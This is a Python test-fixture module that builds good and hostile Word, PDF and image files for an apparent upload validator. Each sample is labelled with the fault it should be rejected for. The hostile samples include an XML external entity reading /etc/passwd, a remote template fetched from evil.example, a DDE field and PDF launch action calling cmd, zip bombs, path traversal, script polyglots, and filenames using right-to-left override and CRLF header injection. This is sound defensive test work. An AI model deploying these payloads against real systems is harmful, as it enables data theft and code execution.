"""Documents made by the tests: good ones, and each kind of bad one, under the fault that it must be refused for."""

import io
import struct
import zipfile
import zlib

import docx
from PIL import Image
from PIL.PngImagePlugin import PngInfo

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 600


def a_docx(text: str = "Note verbale") -> bytes:
    out, document = io.BytesIO(), docx.Document()
    document.core_properties.author = "Canary Author"
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def docx_with(parts: dict[str, bytes], *, base: bytes | None = None) -> bytes:
    """A Word document with these members added or put in place of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or a_docx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def body(inner: str, *, doctype: str = "") -> dict[str, bytes]:
    text = f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{inner}</w:body></w:document>'
    return {"word/document.xml": text.encode()}


def relation(kind: str, target: str) -> dict[str, bytes]:
    one = f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'.encode()}


def an_image(form: str = "PNG", size=(40, 30), **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, form, **more)
    return out.getvalue()


def png_with_words() -> bytes:
    words = PngInfo()
    words.add_text("Author", "Canary Author")
    return an_image(pnginfo=words)


def jpeg_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = "Canary Camera", "Canary Author"
    exif.get_ifd(0x8825)[2] = (17.0, 44.0, 9.0)
    return an_image("JPEG", exif=exif, comment=b"Canary comment")


def huge_png(side: int = 19_000) -> bytes:
    """A few bytes that promise 361 million points."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9000)) + chunk(b"IEND", b"")
    )


def animated_png() -> bytes:
    out = io.BytesIO()
    first, *more = [Image.new("RGB", (9, 9), (shade, 0, 0)) for shade in range(0, 250, 5)]
    first.save(out, "PNG", save_all=True, append_images=more)
    return out.getvalue()


def a_pdf(objects: bytes = b"", *, stream: bytes = b"") -> bytes:
    content = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 0 >>\nendobj\n"
    )
    return content + objects + stream + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


def object_stream(content: bytes, words: bytes = b"/Filter /FlateDecode") -> bytes:
    packed = zlib.compress(content)
    return b"5 0 obj\n<< /Type /ObjStm %s >>\nstream\n%s\nendstream\nendobj\n" % (words, packed)


def zip_bomb() -> bytes:
    return docx_with({"word/media/zeros.xml": b"\0" * 31_000_000})


def lying_bomb() -> bytes:
    """The archive's directory says that a member is small; it is not."""
    raw = bytearray(docx_with({"word/zeros.xml": b" " * 3_000_000}))
    return bytes(raw.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 300)))


def locked_member() -> bytes:
    raw = bytearray(a_docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.find(mark) + place] |= 1
    return bytes(raw)


BILLION = '<!DOCTYPE w:d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE w:d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
    "<w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>"
)
IN_UTF16 = f'<?xml version="1.0" encoding="utf-16"?>{OUTSIDE}<a/>'.encode("utf-16")
MACRO_TYPES = b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
REMARKS = f'<w:comments xmlns:w="{WORD}"><w:comment/></w:comments>'.encode()

HOSTILE = {
    "nothing": (b"", "empty"),
    "page": (b"<html><script>alert(1)</script></html>", "wrong_type"),
    "drawing": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "wrong_type"),
    "program": (b"MZ\x90\x00" + b"\0" * 500, "wrong_type"),
    "gif": (an_image("GIF"), "wrong_type"),
    "tiff": (an_image("TIFF"), "wrong_type"),
    "old word": (OLE, "old_office"),
    "locked word": (OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "locked member": (locked_member(), "encrypted"),
    "archive": (docx_with({}).replace(b"[Content_Types].xml", b"[Content_Typos].xml"), "not_word"),
    "workbook": (docx_with({"xl/workbook.xml": b"<a/>"}), "workbook"),
    "cut short": (a_docx()[:-60], "damaged"),
    "macros": (docx_with({"word/vbaProject.bin": OLE}), "macros"),
    "docm": (docx_with({"[Content_Types].xml": MACRO_TYPES}), "macros"),
    "ole": (docx_with({"word/other.bin": OLE}), "embedded"),
    "embedded": (docx_with({"word/embeddings/a.xlsx": a_docx()}), "embedded"),
    "nested archive": (docx_with({"word/a.dat": a_docx()}), "embedded"),
    "bomb": (zip_bomb(), "bomb"),
    "lying bomb": (lying_bomb(), "damaged"),
    "thousand parts": (docx_with({f"word/p{number}.xml": b"<a/>" for number in range(1000)}), "bomb"),
    "leaves its folder": (docx_with({"../../evil.xml": b"<a/>"}), "strange_names"),
    "billion laughs": (docx_with(body("<w:p>&b;</w:p>", doctype=BILLION)), "entities"),
    "external entity": (docx_with(body("<w:p>&x;</w:p>", doctype=OUTSIDE)), "entities"),
    "entity in utf-16": (docx_with({"word/document.xml": IN_UTF16}), "entities"),
    "template elsewhere": (docx_with(relation("attachedTemplate", "http://evil.example/t.dotm")), "fetches"),
    "picture elsewhere": (docx_with(relation("image", "http://evil.example/p.png")), "fetches"),
    "link to a file": (docx_with(relation("hyperlink", "file:///etc/passwd")), "fetches"),
    "field in pieces": (docx_with(body(FIELD)), "fetches"),
    "tracked": (docx_with(body('<w:p><w:ins w:author="A"><w:r/></w:ins></w:p>')), "tracked"),
    "comments": (docx_with({"word/comments.xml": REMARKS}), "comments"),
    "metafile": (docx_with({"word/media/a.emf": b"\x01\0\0\0"}), "other_picture"),
    "tail": (a_docx() + b"<script>alert(1)</script>", "polyglot"),
    "no xml": (docx_with({"word/document.xml": b"not xml"}), "damaged"),
    "pdf with script": (a_pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj\n"), "active_pdf"),
    "pdf with written-out script": (a_pdf(b"3 0 obj\n<< /S /J#61vaScript >>\nendobj\n"), "active_pdf"),
    "pdf that launches": (a_pdf(b"3 0 obj\n<< /S /Launch /F (cmd) >>\nendobj\n"), "active_pdf"),
    "pdf with a file": (a_pdf(b"3 0 obj\n<< /EmbeddedFiles 4 0 R >>\nendobj\n"), "active_pdf"),
    "pdf with packed script": (a_pdf(stream=object_stream(b"<< /S /JavaScript >>")), "active_pdf"),
    "pdf with a bomb": (a_pdf(stream=object_stream(b" " * 40_000_000)), "bomb"),
    "pdf packed oddly": (a_pdf(stream=object_stream(b"x", b"/Filter /LZWDecode")), "unusual_pdf"),
    "locked pdf": (a_pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"), "encrypted"),
    "pdf and page": (a_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n<script>alert(1)</script>\n"), "polyglot"),
    "pdf and more": (a_pdf() + b"alert(1)", "polyglot"),
    "pdf and archive": (a_pdf(b"%" + a_docx() + b"\n"), "polyglot"),
    "pdf cut short": (a_pdf()[:80], "damaged"),
    "huge image": (huge_png(), "too_many_pixels"),
    "animated": (animated_png(), "animated"),
    "image cut short": (an_image()[:60], "damaged"),
    "broken jpeg": (b"\xff\xd8\xff\xe0" + b"\0" * 40, "damaged"),
}  # fmt: skip

GOOD = {
    "note.docx": a_docx(),
    "scan.pdf": a_pdf(stream=object_stream(b"<< /Type /Font >>")),
    "chart.png": png_with_words(),
    "photo.JPG": jpeg_with_place(),
}

BAD_NAMES = [
    "a" * 300 + ".pdf",
    "annex\u202efdp.exe",
    "annex\u202e.pdf",
    "a\r\nSet-Cookie: x.pdf",
    "zero\u200bwidth.pdf",
    ".pdf",
    "  .pdf",
]
